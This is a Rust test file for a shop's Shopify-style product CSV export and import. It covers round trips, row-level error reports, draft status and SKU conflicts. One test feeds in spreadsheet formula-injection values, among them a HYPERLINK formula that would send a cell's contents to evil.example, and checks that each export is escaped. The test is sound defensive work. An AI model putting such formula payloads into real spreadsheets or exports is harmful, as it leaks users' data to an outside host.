//! Products out of the shop and into it as a Shopify product CSV.

use crate::support::{Backend, World, ZH};
use app::catalog::port::Catalog as _;
use app::kernel::Slug;
use server::catalog::service::CatalogService;
use server::catalog::sheet::{export, import};
use server::on;

fn service(world: &World) -> CatalogService {
    CatalogService::new(&world.database, &world.platform)
}

async fn exported(world: &World) -> Vec<u8> {
    let mut text = Vec::new();
    assert_eq!(export(&world.database, "https://shop.example", &mut text).await.unwrap(), 48);
    text
}

async fn import_text(world: &World, text: &[u8]) -> server::catalog::sheet::SheetReport {
    let file = world.folder().join("products.csv");
    std::fs::write(&file, text).unwrap();
    import(&world.database, &world.platform, &file).await.unwrap()
}

on_both! {
    async fn what_was_exported_reads_back_without_a_change(world) {
        world.with_demo().await;
        let before = exported(&world).await;
        let page = service(&world).product(ZH, &Slug::parse("celadon-teapot").unwrap()).await.unwrap();
        let report = import_text(&world, &before).await;
        assert!(report.errors.is_empty() && report.pictures.is_empty(), "{report}");
        assert_eq!(report.products, 48);
        assert_eq!(service(&world).product(ZH, &Slug::parse("celadon-teapot").unwrap()).await.unwrap(), page);
        assert_eq!(exported(&world).await, before);
        assert!(server::check::run(&world.database).await.unwrap().is_healthy());
    }

    async fn no_exported_cell_is_a_formula_and_each_reads_back_as_it_was(world) {
        // A text of the shop and its cell; other programs write the text itself, except where blanks would be trimmed.
        let pairs = [
            ("=HYPERLINK(\"https://evil.example/?\"&A2)", "'=HYPERLINK(\"https://evil.example/?\"&A2)"),
            ("+1 pot", "'+1 pot"), ("-pot", "'-pot"), ("@pot", "'@pot"), ("＝pot", "'＝pot"),
            ("\tpot", "'\tpot"), ("\rpot", "'\rpot"), ("'=pot", "''=pot"), ("''-pot", "'''-pot"), ("'pot", "'pot"), ("pot", "pot"),
        ];
        let mut sheet = csv::Writer::from_writer(Vec::new());
        sheet.write_record(["Handle", "Title", "Vendor", "Tags", "Option1 Name", "Option1 Value", "Variant SKU", "Variant Price"]).unwrap();
        for (number, (text, guarded)) in pairs.into_iter().enumerate() {
            let cell = if text.starts_with(['\t', '\r', '\'']) { guarded } else { text };
            sheet.write_record([&format!("thing-{number:02}"), cell, cell, cell, cell, cell, &format!("-{number:02}"), "12.50"]).unwrap();
        }
        let report = import_text(&world, &sheet.into_inner().unwrap()).await;
        assert!(report.errors.is_empty(), "{report}");
        let view = app::catalog::model::View { locale: app::kernel::Locale::En, currency: app::kernel::Currency::Usd };
        let pages = async || {
            let mut pages = Vec::new();
            for number in 0..pairs.len() {
                let slug = Slug::parse(&format!("thing-{number:02}")).unwrap();
                pages.push(service(&world).product(view, &slug).await.unwrap());
            }
            pages
        };
        let before = pages().await;
        for ((text, _), page) in pairs.iter().zip(&before) {
            assert_eq!((page.title.as_str(), page.options[0].values[0].1.as_str()), (*text, *text));
        }
        let write = async || {
            let mut text = Vec::new();
            assert_eq!(export(&world.database, "https://shop.example", &mut text).await.unwrap(), pairs.len());
            text
        };
        let written = write().await;
        let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(written.as_slice()).into_records().collect::<Result<_, _>>().unwrap();
        for (number, ((_, guarded), row)) in pairs.iter().zip(&rows).enumerate() {
            assert_eq!([&row[1], &row[3], &row[7], &row[8]], [*guarded; 4], "title, vendor, option and value");
            assert_eq!((&row[0], &row[13], &row[16]), (format!("thing-{number:02}").as_str(), format!("'-{number:02}").as_str(), "12.50"));
            let formula = row.iter().find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']));
            assert_eq!(formula, None);
        }
        let report = import_text(&world, &written).await;
        assert!(report.errors.is_empty(), "{report}");
        assert_eq!(pages().await, before);
        assert_eq!(write().await, written);
    }

    async fn another_shop_reads_it_with_both_languages_prices_and_stock(world) {
        let first = World::new(Backend::Sqlite).await;
        first.with_demo().await;
        let sheet = exported(&first).await;
        let report = import_text(&world, &sheet).await;
        assert!(report.errors.is_empty(), "{report}");
        let slug = Slug::parse("celadon-teapot").unwrap();
        let (there, here) = (service(&first).product(ZH, &slug).await.unwrap(), service(&world).product(ZH, &slug).await.unwrap());
        assert_eq!((&here.title, &here.specs, &here.faq, &here.options), (&there.title, &there.specs, &there.faq, &there.options));
        let facts = |page: &app::catalog::model::ProductPage| {
            page.variants.iter().map(|v| (v.sku.clone(), v.options.clone(), v.price, v.compare_at, v.available)).collect::<Vec<_>>()
        };
        assert_eq!(facts(&here), facts(&there));
        assert!(!report.pictures.is_empty(), "pictures of another server are named, not fetched");
    }

    async fn of_a_thousand_rows_five_bad_ones_are_named_and_the_others_applied(world) {
        let mut text = String::from("Handle,Title,Body (HTML),Vendor,Type,Tags,Option1 Name,Option1 Value,Variant SKU,Variant Grams,Variant Inventory Qty,Variant Price\n");
        for number in 1..=1000 {
            let row = number + 1;
            let (handle, title, price, units) = match number {
                100 => ("Bad Handle!".to_owned(), "T".to_owned(), "10.00", "5"),
                200 => (format!("thing-{number}"), String::new(), "10.00", "5"),
                300 => (format!("thing-{number}"), "T".to_owned(), "ten", "5"),
                400 => (format!("thing-{number}"), "T".to_owned(), "10.00", "many"),
                _ => (format!("thing-{number}"), format!("Thing {number}"), "10.00", "5"),
            };
            let sku = if number == 500 { "T-499".to_owned() } else { format!("T-{number}") };
            text.push_str(&format!("{handle},{title},<p>Row {row}</p>,Maker,Things,\"a, b\",Title,Default Title,{sku},100,{units},{price}\n"));
        }
        let report = import_text(&world, text.as_bytes()).await;
        let told: Vec<(u64, &str)> = report.errors.iter().map(|error| (error.row, error.column)).collect();
        assert_eq!(told, [(101, "Handle"), (201, "Title"), (301, "Variant Price"), (401, "Variant Inventory Qty"), (501, "Variant SKU")]);
        assert_eq!((report.applied, report.products), (995, 995));
        let mut conn = world.database.read_latest().await.unwrap();
        assert_eq!(on!(conn, catalog::count_all()).unwrap(), 995);
        drop(conn);
        assert!(report.to_string().contains("row 301, column “Variant Price”"), "{report}");
        let again = import_text(&world, text.as_bytes()).await;
        assert_eq!((again.applied, again.errors.len()), (995, 5));
        assert!(server::check::run(&world.database).await.unwrap().is_healthy());
    }

    async fn drafts_are_not_on_show_until_the_sheet_says_so(world) {
        let sheet = |status: &str, published: &str| format!(
            "Handle,Title,Published,Variant SKU,Variant Price,Status\ncup,Cup,{published},CUP-1,5.00,{status}\n"
        );
        let view = app::catalog::model::View { locale: app::kernel::Locale::En, currency: app::kernel::Currency::Usd };
        let is_shown = async |status: &str, published: &str| {
            let report = import_text(&world, sheet(status, published).as_bytes()).await;
            assert!(report.errors.is_empty(), "{report}");
            service(&world).product(view, &Slug::parse("cup").unwrap()).await.is_ok()
        };
        assert!(!is_shown("draft", "TRUE").await, "the newer column wins");
        assert!(!is_shown("", "").await, "without a word it stays as it is");
        assert!(is_shown("active", "").await);
        assert!(!is_shown("archived", "").await);
        assert!(is_shown("", "true").await);
        assert!(!is_shown("", "FALSE").await);
        let wrong = import_text(&world, sheet("gone", "").as_bytes()).await;
        assert_eq!((wrong.errors.len(), wrong.errors[0].column), (1, "Status"));
    }

    async fn an_article_of_another_product_is_refused_with_its_row(world) {
        world.with_demo().await;
        let text = "Handle,Title,Variant SKU,Variant Price\nmine,Mine,MINE-1,5.00\nstolen,Stolen,JS-TK01-CELADO,1.00\n";
        let report = import_text(&world, text.as_bytes()).await;
        assert_eq!((report.products, report.errors.len()), (1, 1));
        assert_eq!((report.errors[0].row, report.errors[0].column), (3, "Variant SKU"));
        let page = service(&world).product(ZH, &Slug::parse("celadon-teapot").unwrap()).await.unwrap();
        assert_eq!(page.variants[0].price.minor, 42_800);
    }
}

#[tokio::test]
async fn what_is_no_sheet_is_refused_as_a_whole() {
    let world = World::new(Backend::Sqlite).await;
    let file = world.folder().join("x.csv");
    std::fs::write(&file, "a,b\n1,2\n").unwrap();
    let error = import(&world.database, &world.platform, &file).await.unwrap_err().to_string();
    assert!(error.contains("Handle"), "{error}");
}
